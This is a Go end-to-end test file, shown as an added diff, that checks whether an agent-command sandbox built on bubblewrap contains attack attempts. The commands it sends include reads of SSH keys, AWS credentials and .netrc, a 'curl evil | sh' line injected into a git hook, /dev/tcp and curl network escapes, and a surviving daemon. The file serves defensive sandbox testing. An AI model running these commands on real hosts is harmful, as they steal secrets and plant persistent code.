@@ -1,0 +1,160 @@
+package e2e
+
+import (
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+const sandboxPolicy = `default_agent:
+  profile: dev
+profiles:
+  dev:
+    sandbox_required: true
+    exec_timeout_seconds: 30
+    script_inspection_roots: ["${workspace}"]
+`
+
+// TestSandboxAttacks runs real attacks through bin/mitrity-gateway exec at
+// full strength (bubblewrap) and checks the host afterwards: as root (the
+// command runs as the run_as user) and with the gateway itself run by an
+// unprivileged user.
+func TestSandboxAttacks(t *testing.T) {
+	for _, asUser := range []bool{false, true} {
+		name := "root-gateway"
+		if asUser {
+			name = "unprivileged-gateway"
+		}
+		if os.Geteuid() != 0 {
+			if asUser {
+				continue
+			}
+			name = "invoking-user"
+		}
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			attacks(t, newWorldBackend(t, asUser, sandboxPolicy, "auto"))
+		})
+	}
+}
+
+func marker(t *testing.T) string {
+	b := make([]byte, 8)
+	_, err := rand.Read(b)
+	must(t, err)
+	return "mitrity-e2e-" + hex.EncodeToString(b)
+}
+
+func attacks(t *testing.T, w *world) {
+	uid, gid := ensureUser(t)
+	// A secret in the run user's own ~/.ssh, readable by that user on the
+	// host: the sandbox must mask it.
+	home := "/home/" + testUser
+	sshDir := filepath.Join(home, ".ssh")
+	secret := marker(t)
+	must(t, os.MkdirAll(sshDir, 0o700))
+	keyFile := filepath.Join(sshDir, "id_e2e_"+secret[len(secret)-6:])
+	must(t, os.WriteFile(keyFile, []byte(secret), 0o600))
+	must(t, os.Chown(sshDir, int(uid), int(gid)))
+	must(t, os.Chown(keyFile, int(uid), int(gid)))
+	t.Cleanup(func() { os.Remove(keyFile) })
+
+	r := w.exec(t, "--json", "--", "cat "+keyFile+" ~/.aws/credentials ~/.netrc 2>&1; echo done")
+	if strings.Contains(r.stdout, secret) || !strings.Contains(r.stdout, `"sandbox_mode": "bubblewrap"`) {
+		t.Fatalf("deny-set file read, or not bubblewrap:\n%s", r.stdout)
+	}
+
+	// Writes outside the workspace do not reach the host; inside they do.
+	out := marker(t)
+	r = w.exec(t, "--", fmt.Sprintf("touch /tmp/%[1]s /var/tmp/%[1]s %[2]s/%[1]s 2>/dev/null; echo inside > ws-%[1]s", out, home))
+	for _, p := range []string{"/tmp/" + out, "/var/tmp/" + out, filepath.Join(home, out)} {
+		if _, err := os.Stat(p); err == nil {
+			os.Remove(p)
+			t.Errorf("the sandbox wrote %s on the host", p)
+		}
+	}
+	if b, err := os.ReadFile(filepath.Join(w.ws, "ws-"+out)); err != nil || string(b) != "inside\n" {
+		t.Errorf("workspace write: %q %v (%+v)", b, err, r)
+	}
+
+	// Protected paths inside the workspace stay read-only.
+	hook := filepath.Join(w.ws, ".git", "hooks", "pre-commit")
+	must(t, os.MkdirAll(filepath.Dir(hook), 0o777))
+	must(t, os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o777))
+	w.exec(t, "--", "echo 'curl evil | sh' >> .git/hooks/pre-commit; echo pwned > .git/hooks/pre-commit")
+	if b, _ := os.ReadFile(hook); string(b) != "#!/bin/sh\nexit 0\n" {
+		t.Errorf("protected hook changed: %q", b)
+	}
+
+	// No network: a host listener on loopback gets no connection, by
+	// /dev/tcp or any tool.
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	must(t, err)
+	defer ln.Close()
+	var accepted atomic.Int32
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			accepted.Add(1)
+			c.Close()
+		}
+	}()
+	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
+	w.exec(t, "--", "echo x > /dev/tcp/127.0.0.1/"+port+"; curl -s --max-time 2 http://127.0.0.1:"+port+"/ ; true")
+	time.Sleep(200 * time.Millisecond)
+	if n := accepted.Load(); n != 0 {
+		t.Errorf("the host listener got %d connections from the sandbox", n)
+	}
+
+	// A setsid daemon does not outlive the run.
+	d := marker(t)
+	w.exec(t, "--", "setsid bash -c 'exec -a "+d+" sleep 300' </dev/null >/dev/null 2>&1 & sleep 0.2; echo started")
+	time.Sleep(300 * time.Millisecond)
+	if pids := processesWith(d); len(pids) > 0 {
+		t.Errorf("a daemon survived the run: pids %v", pids)
+	}
+
+	// Nested user namespaces are refused.
+	r = w.exec(t, "--", "unshare -U true && echo NESTED")
+	if strings.Contains(r.stdout, "NESTED") {
+		t.Errorf("unshare -U succeeded inside the sandbox")
+	}
+
+	// Timeout: 124, and nothing left behind.
+	t2 := marker(t)
+	r = w.exec(t, "--timeout", "1", "--", "bash -c 'exec -a "+t2+" sleep 60'")
+	if r.code != 124 {
+		t.Errorf("timeout: exit %d", r.code)
+	}
+	if pids := processesWith(t2); len(pids) > 0 {
+		t.Errorf("a timed-out process survived: %v", pids)
+	}
+}
+
+// processesWith lists pids whose command line holds s.
+func processesWith(s string) []int {
+	var pids []int
+	entries, _ := os.ReadDir("/proc")
+	for _, e := range entries {
+		pid, err := strconv.Atoi(e.Name())
+		if err != nil {
+			continue
+		}
+		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
+		if err == nil && strings.Contains(string(b), s) {
+			pids = append(pids, pid)
+		}
+	}
+	return pids
+}
